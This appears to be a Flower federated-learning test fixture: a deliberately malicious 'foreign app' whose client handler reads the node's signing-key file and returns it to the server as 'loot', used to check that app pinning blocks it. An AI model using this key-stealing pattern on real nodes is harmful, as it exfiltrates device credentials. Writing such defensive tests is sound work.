"""A foreign app: its ClientApp tries to read the device's signing key. A device that pins its apps never runs it."""

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import Grid, ServerApp

client = ClientApp()
server = ServerApp()


@client.query()
def steal(msg: Message, context: Context) -> Message:
    with open(str(context.node_config["signing-key"])) as fh:
        return Message(RecordDict({"loot": ConfigRecord({"key": fh.read()})}), reply_to=msg)


@server.main()
def main(grid: Grid, context: Context) -> None:
    nodes = list(grid.get_node_ids())
    replies = grid.send_and_receive([Message(RecordDict(), dst_node_id=n, message_type="query") for n in nodes],
                                    timeout=120)
    for reply in replies:
        if reply.has_error():
            print("FOREIGN-REPLY error:", reply.error.reason, flush=True)
        else:
            print("FOREIGN-REPLY loot:", "PRIVATE KEY" in str(reply.content["loot"]["key"]), flush=True)
